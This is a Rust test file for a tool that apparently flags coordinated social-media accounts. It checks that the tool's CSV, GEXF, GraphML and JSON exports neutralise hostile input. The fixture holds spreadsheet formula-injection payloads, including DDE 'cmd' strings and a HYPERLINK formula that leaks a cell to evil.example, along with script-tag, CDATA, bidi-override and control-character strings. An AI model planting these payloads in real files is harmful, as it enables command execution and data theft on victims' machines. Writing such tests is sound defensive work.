//! Exports: contract columns, one row per account, determinism, and hostile content made inert
//! (formula injection, markup, control characters, bidi overrides) — checked by reading the files
//! back with real readers (csv-core for CSV, roxmltree for GEXF/GraphML, serde_json for JSON).

use chorus::core::detect::*;
use chorus::core::export::{self, report::Report, InputFingerprint, RunInfo};
use chorus::core::ingest::{AccountRecord, DatasetBuilder, PostRecord};
use chorus::core::model::*;
use std::collections::BTreeMap;

/// Hostile strings, each used as a screen name (and some as ids, hashtags, texts).
pub const PAYLOADS: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1",
    "\rCR=1",
    "<script>alert(1)</script>",
    "end]]>cdata",
    "\u{202e}gnp.exe",
    "nul\u{0}byte\u{1b}[2J",
    "line1\nline2, \"quoted\"",
    "zero\u{200b}width\u{feff}",
];

/// A dataset: 14 accounts (12 hostile names, a normal one, one with a hostile id), a few posts
/// each with times, and a retweet ring; plus an analysis made by hand: two clusters.
pub fn fixture() -> (Dataset, Analysis) {
    let mut b = DatasetBuilder::default();
    b.begin_file("fixture");
    let mut rec = PostRecord::default();
    let mut n = 0u64;
    let at = |n: u64| Position { record: n, line: n + 1, byte: n * 100 };
    let mut ids: Vec<String> = (0..PAYLOADS.len()).map(|i| format!("{}", 1000 + i)).collect();
    ids.push("2000".into());
    ids.push("=cmd|' /C calc'!A0\u{0}<x>".into());
    ids.push("=cmd|' /C calc'!A0<x>".into()); // collides with the previous once NUL is removed
    for (i, id) in ids.iter().enumerate() {
        let mut acc = AccountRecord { id: id.clone(), ..Default::default() };
        acc.screen_name = PAYLOADS.get(i).map_or(format!("user{i}"), |p| p.to_string());
        acc.created_at_ms = Some(1_577_836_800_000 + i as i64 * 86_400_000); // 2020-01-01 + i days
        acc.followers = Some(10 * i as u32);
        b.add_account(&acc, &at(n));
        n += 1;
        for k in 0..3 {
            rec.clear();
            rec.id = format!("{}", 10_000 + i * 10 + k);
            rec.author.id = id.clone();
            rec.time_ms = 1_580_000_000_000 + (i * 60 + k * 7) as i64 * 1000;
            rec.text = format!("{} says {}", PAYLOADS[i % PAYLOADS.len()], k);
            rec.hashtags = vec![format!("tag{k}"), "=evil".into()];
            if k == 2 && i > 0 {
                rec.kind = Kind::Retweet;
                rec.target_post = "10000".into();
                rec.target_account_id = ids[0].clone();
            }
            b.add_post(&rec, &at(n));
            n += 1;
        }
    }
    let (ds, _) = b.finish();
    let reason = |code: &str, value: f64, text: &str| Reason { code: code.into(), value, text: text.into() };
    let mut accounts: Vec<AccountVerdict> = (0..ds.n_accounts())
        .map(|_| AccountVerdict { role: Role::Unflagged, cluster: NONE, score: 0.0, reasons: vec![] })
        .collect();
    let idx = |id: &str| ds.accounts.ids.get(id).expect("fixture id");
    let set = |v: &mut Vec<AccountVerdict>, id: u32, role, cluster, score: f32, reasons: Vec<Reason>| {
        v[id as usize] = AccountVerdict { role, cluster, score, reasons };
    };
    set(
        &mut accounts,
        idx("1000"),
        Role::Core,
        0,
        0.91,
        vec![
            reason("boosted_by_cluster", 11.0, "retweeted by 11 accounts of this cluster, median 38 s after posting"),
            reason("co_tweet", 4.0, "=1+1 posted the same text as 4 cluster members"),
        ],
    );
    set(&mut accounts, idx("1001"), Role::Core, 0, 0.8, vec![reason("co_tweet", 3.0, "<b>posted</b> the same text")]);
    set(
        &mut accounts,
        idx("1002"),
        Role::Amplifier,
        0,
        0.75,
        vec![
            reason("boosts_core", 41.0, "retweeted 41 posts of this cluster's core, median 38 s after posting"),
            reason("creation_burst", 212.0, "created within a 3-day burst of 212 accounts"),
        ],
    );
    set(
        &mut accounts,
        idx("1003"),
        Role::Amplifier,
        0,
        0.75,
        vec![reason("boosts_core", 9.0, "@everyone: retweeted 9 posts")],
    );
    set(&mut accounts, idx("1006"), Role::Core, 1, 0.6, vec![reason("co_link", 5.0, "shared 5 links")]);
    set(&mut accounts, idx("1007"), Role::Amplifier, 1, 0.4, vec![reason("boosts_core", 3.0, "line1\nline2")]);
    set(&mut accounts, idx("=cmd|' /C calc'!A0\u{0}<x>"), Role::Amplifier, 1, 0.3, vec![]);
    let cluster = |id: u32, members: Vec<u32>, offset: Option<i32>| Cluster {
        id,
        accounts: members,
        n_core: 2,
        n_amplifiers: 2,
        strength: 3.25,
        density: 0.5,
        median_boost_delay_s: Some(38.0),
        echo_share: Some(0.93),
        creation_bursts: vec![CreationBurst { first_day: 18262, last_day: 18264, n_accounts: 212 }],
        hour_profile: {
            let mut h = [0u32; 24];
            h[9] = 40;
            h[14] = 12;
            h
        },
        implied_utc_offset: offset,
        top_hashtags: vec![("=evil".into(), 30), ("tag0".into(), 12)],
        top_urls: vec![("http://x.example/<script>".into(), 4)],
        top_domains: vec![("x.example".into(), 4)],
        top_texts: vec![("-1 says hello\nworld".into(), 7), ("@here look".into(), 3)],
        daily: vec![(18290, 10), (18291, 50), (18330, 9)],
        spikes: vec![(18291)],
        methods: vec![(CoAction::CoRetweet, 0.7), (CoAction::CoTweet, 0.3)],
        n_posts: 69,
    };
    let c0 = cluster(0, vec![idx("1000"), idx("1001"), idx("1002"), idx("1003")], Some(-5));
    let c1 = cluster(1, vec![idx("1006"), idx("1007"), idx("=cmd|' /C calc'!A0\u{0}<x>")], Some(3));
    let edge =
        |a: &str, b: &str, weight: f32, methods: u16| Edge { a: idx(a), b: idx(b), weight, n_objects: 4, methods };
    let rt = CoAction::CoRetweet.bit();
    let edges = vec![
        edge("1000", "1002", 4.5, rt),
        edge("1000", "1003", 2.25, rt | CoAction::CoTweet.bit()),
        edge("1002", "1003", 2.25, rt),
        edge("1006", "1007", 1.1, CoAction::CoLink.bit()),
        edge("1007", "=cmd|' /C calc'!A0\u{0}<x>", 3.0, rt),
        edge("1007", "=cmd|' /C calc'!A0<x>", 2.0, rt), // an unflagged account in an edge
        edge("1008", "1009", 0.5, rt),                  // two unflagged accounts in an edge
        edge("1009", "1010", 0.25, rt),
    ];
    let analysis = Analysis {
        params: DetectParams::default(),
        accounts,
        clusters: vec![c0, c1],
        edges,
        methods: vec![MethodStats {
            kind: CoAction::CoRetweet,
            objects: 12,
            candidate_pairs: 40,
            edges: 6,
            budget_hit: false,
        }],
        warnings: vec!["a warning with <markup> & \"quotes\"".into()],
    };
    (ds, analysis)
}

fn run_info() -> RunInfo {
    RunInfo {
        inputs: vec![InputFingerprint {
            path: "in/<x>.csv".into(),
            bytes: 42,
            sha256: "ab".repeat(32),
            ..Default::default()
        }],
        ingest: vec![],
        input_format: None,
    }
}

/// Parse CSV bytes with csv-core (a real RFC 4180 reader), as rows of fields.
pub fn parse_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut rdr = csv_core::Reader::new();
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), Vec::new());
    let mut input = bytes;
    let mut out = [0u8; 4096];
    loop {
        let (res, nin, nout) = rdr.read_field(input, &mut out);
        input = &input[nin..];
        field.extend_from_slice(&out[..nout]);
        match res {
            csv_core::ReadFieldResult::InputEmpty => {
                if input.is_empty() {
                    // signal end of input
                    let (res, _, nout) = rdr.read_field(&[], &mut out);
                    field.extend_from_slice(&out[..nout]);
                    match res {
                        csv_core::ReadFieldResult::Field { record_end } => {
                            row.push(String::from_utf8(std::mem::take(&mut field)).unwrap());
                            if record_end {
                                rows.push(std::mem::take(&mut row));
                            }
                            continue;
                        }
                        _ => return rows,
                    }
                }
            }
            csv_core::ReadFieldResult::OutputFull => {}
            csv_core::ReadFieldResult::Field { record_end } => {
                row.push(String::from_utf8(std::mem::take(&mut field)).unwrap());
                if record_end {
                    rows.push(std::mem::take(&mut row));
                }
            }
            csv_core::ReadFieldResult::End => return rows,
        }
    }
}

fn files(ds: &Dataset, an: &Analysis) -> BTreeMap<&'static str, Vec<u8>> {
    export::export_all(ds, an, &run_info()).unwrap().into_iter().map(|f| (f.name, f.bytes)).collect()
}

fn table(bytes: &[u8]) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let mut rows = parse_csv(bytes);
    assert!(!rows.is_empty(), "no header");
    let header = rows.remove(0);
    for r in &rows {
        assert_eq!(r.len(), header.len(), "ragged row {r:?}");
    }
    let maps = rows.into_iter().map(|r| header.iter().cloned().zip(r).collect()).collect();
    (header, maps)
}

const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn accounts_csv_has_the_contract_columns_and_one_row_per_account() {
    let (ds, an) = fixture();
    let f = files(&ds, &an);
    let (header, rows) = table(&f["accounts.csv"]);
    assert_eq!(header[..6], ["account_id", "screen_name", "role", "cluster", "score", "reasons"]);
    assert_eq!(rows.len(), ds.n_accounts());
    // every account exactly once (ids neutralised the same way everywhere)
    let mut seen: Vec<&str> = rows.iter().map(|r| r["account_id"].as_str()).collect();
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), ds.n_accounts());
    // roles, clusters, scores, reasons
    let by_id: BTreeMap<&str, &BTreeMap<String, String>> = rows.iter().map(|r| (r["account_id"].as_str(), r)).collect();
    let r = by_id["1000"];
    assert_eq!((r["role"].as_str(), r["cluster"].as_str(), r["score"].as_str()), ("core", "0", "0.91"));
    assert_eq!(
        r["reasons"],
        "retweeted by 11 accounts of this cluster, median 38 s after posting; =1+1 posted the same text as 4 cluster members"
    );
    assert_eq!(r["reason_codes"], "boosted_by_cluster;co_tweet");
    assert_eq!(r["posts"], "3");
    assert_eq!(r["retweets"], "0");
    assert_eq!(r["created_at"], "2020-01-01T00:00:00Z");
    assert_eq!(by_id["1002"]["role"], "amplifier");
    assert_eq!(by_id["1002"]["retweets"], "1");
    assert_eq!((by_id["2000"]["role"].as_str(), by_id["2000"]["cluster"].as_str()), ("unflagged", ""));
    assert_eq!(by_id["2000"]["score"], "0");
    // sorted: core, amplifier, unflagged; within, by cluster then score
    let roles: Vec<&str> = rows.iter().map(|r| r["role"].as_str()).collect();
    let rank = |r: &str| ["core", "amplifier", "unflagged"].iter().position(|x| *x == r).unwrap();
    assert!(roles.windows(2).all(|w| rank(w[0]) <= rank(w[1])), "{roles:?}");
    assert_eq!(rows[0]["account_id"], "1000");
    assert_eq!(rows[1]["account_id"], "1001");
    assert_eq!(rows[2]["account_id"], "1006");
}

#[test]
fn csv_cells_cannot_start_a_formula_and_numbers_stay_numbers() {
    let (ds, an) = fixture();
    let f = files(&ds, &an);
    for name in ["accounts.csv", "clusters.csv", "edges.csv"] {
        let (_, rows) = table(&f[name]);
        for row in &rows {
            for (col, cell) in row {
                if cell.starts_with(FORMULA) {
                    // only numeric columns may start with '-', and then they are numbers
                    assert!(cell.parse::<f64>().is_ok(), "{name}.{col} starts a formula: {cell:?}");
                }
                assert!(
                    !cell.contains('\u{0}') && !cell.contains('\u{1b}'),
                    "{name}.{col} has a control char: {cell:?}"
                );
            }
        }
    }
    let (_, accounts) = table(&f["accounts.csv"]);
    let names: Vec<&str> = accounts.iter().map(|r| r["screen_name"].as_str()).collect();
    for want in [
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "SUM(1+1)*cmd|' /C calc'!A0", // ingest drops a screen name's leading '@'
        "'\tTAB=1",
        "'\rCR=1",
        "<script>alert(1)</script>",
        "\u{202e}gnp.exe",
        "nul\u{fffd}byte\u{fffd}[2J",
        "line1\nline2, \"quoted\"",
        "zero\u{200b}width\u{feff}",
    ] {
        assert!(names.contains(&want), "missing {want:?} in {names:?}");
    }
    assert!(accounts.iter().any(|r| r["account_id"] == "'=cmd|' /C calc'!A0<x>"));
    assert!(accounts.iter().any(|r| r["account_id"] == "'=cmd|' /C calc'!A0\u{fffd}<x>"));
    // reasons starting with a formula char are neutralised as a whole cell
    let r = accounts.iter().find(|r| r["account_id"] == "1001").unwrap();
    assert_eq!(r["reasons"], "<b>posted</b> the same text");
    let r = accounts.iter().find(|r| r["account_id"] == "1003").unwrap();
    assert_eq!(r["reasons"], "'@everyone: retweeted 9 posts");
    let (_, clusters) = table(&f["clusters.csv"]);
    assert_eq!(clusters[0]["implied_utc_offset"], "-5");
    assert_eq!(clusters[1]["implied_utc_offset"], "3");
    assert_eq!(clusters[0]["top_hashtags"], "'=evil (30); tag0 (12)");
    assert_eq!(clusters[0]["top_texts"], "'-1 says hello world (7); @here look (3)");
    assert_eq!(clusters[0]["spike_days"], "2020-01-30");
    assert_eq!(clusters[0]["creation_bursts"], "2020-01-01..2020-01-03 (212)");
    assert_eq!(clusters[0]["methods"], "co_retweet=0.7;co_tweet=0.3");
    assert_eq!(clusters[0]["peak_hour_utc"], "9");
    assert_eq!(clusters[0]["hour_profile_utc"], "0;0;0;0;0;0;0;0;0;40;0;0;0;0;12;0;0;0;0;0;0;0;0;0");
    assert_eq!(clusters[0]["size"], "4");
    // the raw bytes use CRLF records and quote the embedded newline
    let raw = String::from_utf8(f["accounts.csv"].clone()).unwrap();
    assert!(raw.starts_with("account_id,screen_name,role,cluster,score,reasons,"));
    assert!(raw.contains("\"line1\nline2, \"\"quoted\"\"\""));
}

#[test]
fn edges_csv_lists_valid_edges_by_weight() {
    let (ds, an) = fixture();
    let f = files(&ds, &an);
    let (header, rows) = table(&f["edges.csv"]);
    assert_eq!(header, ["source", "target", "weight", "n_objects", "methods"]);
    assert_eq!(rows.len(), an.edges.len());
    assert_eq!(
        (rows[0]["source"].as_str(), rows[0]["target"].as_str(), rows[0]["weight"].as_str()),
        ("1000", "1002", "4.5")
    );
    assert_eq!(rows[1]["source"], "1007");
    assert_eq!(rows[1]["target"], "'=cmd|' /C calc'!A0\u{fffd}<x>");
    assert_eq!(rows[1]["weight"], "3");
    assert!(rows.iter().any(|r| r["methods"] == "co_retweet;co_tweet" && r["weight"] == "2.25"));
    let w: Vec<f64> = rows.iter().map(|r| r["weight"].parse().unwrap()).collect();
    assert!(w.windows(2).all(|p| p[0] >= p[1]), "{w:?}");
}

/// Attribute values of one node / edge, unescaped by the XML reader.
type Attrs = BTreeMap<String, String>;
/// Nodes (id, attributes) and edges (source, target, attributes) of a network file.
type Graph = (Vec<(String, Attrs)>, Vec<(String, String, Attrs)>);

fn parse_gexf(bytes: &[u8]) -> Graph {
    let text = std::str::from_utf8(bytes).expect("GEXF is UTF-8");
    let doc = roxmltree::Document::parse(text).expect("GEXF is well-formed XML");
    let root = doc.root_element();
    assert_eq!(root.tag_name().name(), "gexf");
    let description = root.descendants().find(|n| n.has_tag_name("description")).expect("meta");
    let text = description.text().unwrap_or("");
    assert!(text.contains("\"min_repetitions\":") && text.contains("in/<x>.csv"), "{text}");
    assert_eq!(root.tag_name().namespace(), Some("http://gexf.net/1.3"));
    assert_eq!(root.attribute("version"), Some("1.3"));
    let attvalues = |n: roxmltree::Node| -> Attrs {
        n.descendants()
            .filter(|d| d.has_tag_name("attvalue"))
            .map(|d| (d.attribute("for").unwrap().to_string(), d.attribute("value").unwrap().to_string()))
            .collect()
    };
    let nodes = root
        .descendants()
        .filter(|n| n.has_tag_name("node"))
        .map(|n| {
            let mut a = attvalues(n);
            a.insert("label".into(), n.attribute("label").unwrap().into());
            let viz = n.children().find(|c| c.has_tag_name(("http://gexf.net/1.3/viz", "color"))).expect("viz:color");
            let rgb: Vec<&str> = ["r", "g", "b"].iter().map(|k| viz.attribute(*k).unwrap()).collect();
            a.insert("color".into(), rgb.join(","));
            (n.attribute("id").unwrap().to_string(), a)
        })
        .collect();
    let edges = root
        .descendants()
        .filter(|n| n.has_tag_name("edge"))
        .map(|n| {
            let mut a = attvalues(n);
            a.insert("weight".into(), n.attribute("weight").unwrap_or("").into());
            (n.attribute("source").unwrap().to_string(), n.attribute("target").unwrap().to_string(), a)
        })
        .collect();
    (nodes, edges)
}

fn parse_graphml(bytes: &[u8]) -> Graph {
    let text = std::str::from_utf8(bytes).expect("GraphML is UTF-8");
    let doc = roxmltree::Document::parse(text).expect("GraphML is well-formed XML");
    let root = doc.root_element();
    assert_eq!(root.tag_name().namespace(), Some("http://graphml.graphdrawing.org/xmlns"));
    let keys: BTreeMap<String, String> = root
        .children()
        .filter(|n| n.has_tag_name("key"))
        .map(|k| (k.attribute("id").unwrap().to_string(), k.attribute("attr.name").unwrap().to_string()))
        .collect();
    let data = |n: roxmltree::Node| -> Attrs {
        n.children()
            .filter(|d| d.has_tag_name("data"))
            .map(|d| {
                let key = d.attribute("key").unwrap();
                let name = keys.get(key).unwrap_or_else(|| panic!("undeclared key {key}"));
                (name.clone(), d.text().unwrap_or("").to_string())
            })
            .collect()
    };
    let graph = root.children().find(|n| n.has_tag_name("graph")).expect("<graph>");
    let meta = data(graph);
    assert_eq!(meta["chorus_version"], env!("CARGO_PKG_VERSION"));
    let params: DetectParams = serde_json::from_str(&meta["detect_params"]).expect("detect_params");
    assert_eq!(params, DetectParams::default());
    let inputs: Vec<InputFingerprint> = serde_json::from_str(&meta["inputs"]).expect("inputs");
    assert_eq!(inputs, run_info().inputs);
    let nodes = root
        .descendants()
        .filter(|n| n.has_tag_name("node"))
        .map(|n| (n.attribute("id").unwrap().to_string(), data(n)))
        .collect();
    let edges = root
        .descendants()
        .filter(|n| n.has_tag_name("edge"))
        .map(|n| (n.attribute("source").unwrap().to_string(), n.attribute("target").unwrap().to_string(), data(n)))
        .collect();
    (nodes, edges)
}

#[test]
fn network_files_are_well_formed_and_carry_hostile_text_as_data() {
    let (ds, an) = fixture();
    let f = files(&ds, &an);
    for (name, (nodes, edges)) in
        [("network.gexf", parse_gexf(&f["network.gexf"])), ("network.graphml", parse_graphml(&f["network.graphml"]))]
    {
        // nodes: the 7 flagged accounts + 4 unflagged accounts that are in an edge
        assert_eq!(nodes.len(), 11, "{name}");
        assert_eq!(edges.len(), 8, "{name}");
        let ids: std::collections::BTreeSet<&str> = nodes.iter().map(|n| n.0.as_str()).collect();
        assert_eq!(ids.len(), nodes.len(), "{name}: node ids must be unique");
        for (s, t, _) in &edges {
            assert!(ids.contains(s.as_str()) && ids.contains(t.as_str()), "{name}: dangling edge {s} {t}");
        }
        let by_account: BTreeMap<&str, &Attrs> = nodes.iter().map(|n| (n.1["account_id"].as_str(), &n.1)).collect();
        let core = by_account["1000"];
        assert_eq!((core["role"].as_str(), core["cluster"].as_str(), core["score"].as_str()), ("core", "0", "0.91"));
        assert_eq!(core["posts"], "3");
        if name == "network.gexf" {
            assert_eq!(core["color"], "214,39,40");
            assert_eq!(by_account["1008"]["color"], "160,160,160");
        }
        assert_eq!(core["screen_name"], PAYLOADS[0], "{name}: text is data, unchanged");
        assert_eq!(by_account["1006"]["screen_name"], "<script>alert(1)</script>");
        assert_eq!(by_account["1007"]["screen_name"], "end]]>cdata");
        assert!(!by_account["1008"].contains_key("cluster"), "{name}: no cluster for unflagged");
        assert_eq!(by_account["1008"]["role"], "unflagged");
        assert_eq!(by_account["1008"]["screen_name"], "\u{202e}gnp.exe");
        assert_eq!(by_account["1009"]["screen_name"], "nul\u{fffd}byte\u{fffd}[2J", "{name}: control chars replaced");
        assert_eq!(by_account["1010"]["screen_name"], "line1\nline2, \"quoted\"", "{name}: newline kept");
        // the hostile id's NUL is replaced; its node id is made unique, the other keeps its own
        assert!(ids.contains("=cmd|' /C calc'!A0<x>"));
        let odd: Vec<&str> = ids.iter().copied().filter(|i| i.starts_with("=cmd|' /C calc'!A0\u{fffd}<x>~")).collect();
        assert_eq!(odd.len(), 1, "{name}: {ids:?}");
        assert_eq!(by_account["=cmd|' /C calc'!A0\u{fffd}<x>"]["role"], "amplifier");
        let heavy = edges.iter().find(|e| e.2["weight"] == "4.5").expect("weight 4.5");
        assert_eq!((heavy.0.as_str(), heavy.1.as_str()), ("1000", "1002"));
        assert_eq!(heavy.2["methods"], "co_retweet");
        assert_eq!(heavy.2["n_objects"], "4");
    }
    for name in ["network.gexf", "network.graphml"] {
        let text = String::from_utf8(f[name].clone()).unwrap();
        assert!(!text.contains("<script>") && !text.contains("]]>") && !text.contains('\u{0}'), "{name}");
    }
}

#[test]
fn report_json_says_what_was_computed_from_what() {
    let (ds, an) = fixture();
    let f = files(&ds, &an);
    let r: Report = serde_json::from_slice(&f["report.json"]).expect("report.json parses");
    assert_eq!(r.chorus_version, env!("CARGO_PKG_VERSION"));
    assert_eq!(r.params, DetectParams::default());
    assert_eq!(r.inputs, run_info().inputs);
    assert_eq!(r.counts.accounts as usize, ds.n_accounts());
    assert_eq!(r.counts.posts as usize, ds.n_posts());
    assert_eq!((r.counts.core, r.counts.amplifiers, r.counts.unflagged), (3, 4, ds.n_accounts() as u64 - 7));
    assert_eq!((r.counts.clusters, r.counts.edges), (2, 8));
    assert_eq!(r.counts.first_post.as_deref(), Some("2020-01-26T00:53:20Z"));
    assert_eq!(r.methods.len(), 1);
    assert_eq!(r.warnings, an.warnings);
    let raw: serde_json::Value = serde_json::from_slice(&f["report.json"]).unwrap();
    let methods = raw["params"]["methods"].as_array().unwrap();
    assert_eq!(methods.len(), CoAction::ALL.len(), "every method's parameters are recorded");
    for key in ["min_repetitions", "min_edge_weight", "max_pairs", "similarity_threshold", "resolution", "seed"] {
        assert!(raw["params"].get(key).is_some(), "params.{key} missing");
    }
}

#[test]
fn report_json_carries_the_ingest_summary() {
    let (ds, an) = fixture();
    let mut b = DatasetBuilder::default();
    b.begin_file("bad.csv");
    let at = Position { record: 3, line: 4, byte: 120 };
    b.reject(at.clone(), DiagKind::BadValue, "time \"yesterday\" is not a date");
    b.reject(at, DiagKind::BadValue, "time \"\" is not a date");
    let (_, reports) = b.finish();
    let run = RunInfo { inputs: vec![], ingest: reports, input_format: Some("toolkit".into()) };
    let bytes = export::to_vec(|w| export::report_json(&ds, &an, &run, w)).unwrap();
    let r: Report = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(r.ingest.len(), 1);
    let i = &r.ingest[0];
    assert_eq!((i.records_read, i.records_rejected), (2, 2));
    assert_eq!(i.diagnostics_by_kind[0].count, 2);
    assert_eq!(i.diagnostics_by_kind[0].kind, "bad value");
    assert_eq!(i.diagnostics[0].at.line, 4);
    assert_eq!(r.input_format.as_deref(), Some("toolkit"));
}

#[test]
fn exports_are_deterministic() {
    let (ds1, an1) = fixture();
    let (ds2, an2) = fixture();
    assert_eq!(files(&ds1, &an1), files(&ds2, &an2));
    // the order of edges and clusters in the analysis does not reach the files
    let mut an3 = an1.clone();
    an3.edges.reverse();
    an3.clusters.reverse();
    for e in &mut an3.edges {
        std::mem::swap(&mut e.a, &mut e.b);
    }
    let (f1, f3) = (files(&ds1, &an1), files(&ds1, &an3));
    for name in ["accounts.csv", "clusters.csv", "edges.csv", "network.gexf", "network.graphml"] {
        assert_eq!(f1[name], f3[name], "{name}");
    }
}

#[test]
fn empty_dataset_gives_headers_and_empty_graphs() {
    let (ds, _) = DatasetBuilder::default().finish();
    let an = Analysis {
        params: DetectParams::default(),
        accounts: vec![],
        clusters: vec![],
        edges: vec![],
        methods: vec![],
        warnings: vec![],
    };
    let f = files(&ds, &an);
    assert_eq!(parse_csv(&f["accounts.csv"]).len(), 1);
    assert_eq!(parse_csv(&f["clusters.csv"]).len(), 1);
    assert_eq!(parse_csv(&f["edges.csv"]).len(), 1);
    assert_eq!(parse_gexf(&f["network.gexf"]).0.len(), 0);
    assert_eq!(parse_graphml(&f["network.graphml"]).0.len(), 0);
    let r: Report = serde_json::from_slice(&f["report.json"]).unwrap();
    assert_eq!((r.counts.posts, r.counts.first_post), (0, None));
}

#[test]
fn edges_to_unknown_accounts_and_short_analyses_do_not_panic() {
    let (ds, mut an) = fixture();
    an.accounts.truncate(3);
    an.edges.push(Edge { a: 0, b: 9_999, weight: 1.0, n_objects: 1, methods: 1 });
    an.edges.push(Edge { a: 1, b: 1, weight: f32::NAN, n_objects: 1, methods: 1 });
    let f = files(&ds, &an);
    let (_, rows) = table(&f["accounts.csv"]);
    assert_eq!(rows.len(), ds.n_accounts());
    assert_eq!(parse_csv(&f["edges.csv"]).len(), 1 + 8, "invalid edges are left out");
    parse_gexf(&f["network.gexf"]);
    parse_graphml(&f["network.graphml"]);
}

#[test]
fn fingerprint_is_sha256_whatever_the_chunking() {
    let data = b"abc".repeat(1000);
    let mut whole = export::Fingerprinter::new("f.csv");
    whole.update(&data);
    let mut bytewise = export::Fingerprinter::new("f.csv");
    for b in &data {
        bytewise.update(std::slice::from_ref(b));
    }
    let (a, b) = (whole.finish(), bytewise.finish());
    assert_eq!(a, b);
    assert_eq!((a.path.as_str(), a.bytes), ("f.csv", 3000));
    let mut abc = export::Fingerprinter::new("abc");
    abc.update(b"abc");
    assert_eq!(abc.finish().sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

#[test]
fn dates_are_iso_8601_utc() {
    assert_eq!(export::iso_day(0), "1970-01-01");
    assert_eq!(export::iso_day(18_321), "2020-02-29");
    assert_eq!(export::iso_day(-1), "1969-12-31");
    assert_eq!(export::iso_time(1_583_020_799_000), "2020-02-29T23:59:59Z");
    assert_eq!(export::iso_time(-1), "1969-12-31T23:59:59Z");
    assert_eq!(export::iso_time(NO_TIME), "");
}

#[test]
fn text_helpers_neutralise_and_escape() {
    assert_eq!(export::csv_text("=1+1"), "'=1+1");
    assert_eq!(export::csv_text("a\u{0}b\u{85}"), "a\u{fffd}b\u{fffd}");
    assert_eq!(export::csv_text("\t=1"), "'\t=1");
    assert_eq!(export::csv_text("a=1"), "a=1");
    assert_eq!(export::csv_text("\u{202e}=1"), "\u{202e}=1");
    let mut s = String::new();
    export::xml_attr(&mut s, "a\"<&>'\n\u{0}\u{fffe}b");
    assert_eq!(s, "a&quot;&lt;&amp;&gt;&apos;&#10;\u{fffd}\u{fffd}b");
    let mut t = String::new();
    export::xml_text(&mut t, "]]><x>\u{7}");
    assert_eq!(t, "]]&gt;&lt;x&gt;\u{fffd}");
}

/// Writes the hostile fixture's six files to `$CARGO_TARGET_TMPDIR/export-fixture/` (the dir
/// scripts/check-exports.sh validates with networkx and pandas) and checks they are complete.
#[test]
fn writes_fixture_exports_for_the_python_validator() {
    let (ds, an) = fixture();
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("export-fixture");
    std::fs::create_dir_all(&dir).unwrap();
    let files = export::export_all(&ds, &an, &run_info()).unwrap();
    assert_eq!(files.iter().map(|f| f.name).collect::<Vec<_>>(), export::FILE_NAMES);
    for f in &files {
        assert!(!f.bytes.is_empty(), "{}", f.name);
        std::fs::write(dir.join(f.name), &f.bytes).unwrap();
        assert_eq!(std::fs::read(dir.join(f.name)).unwrap(), f.bytes);
    }
}
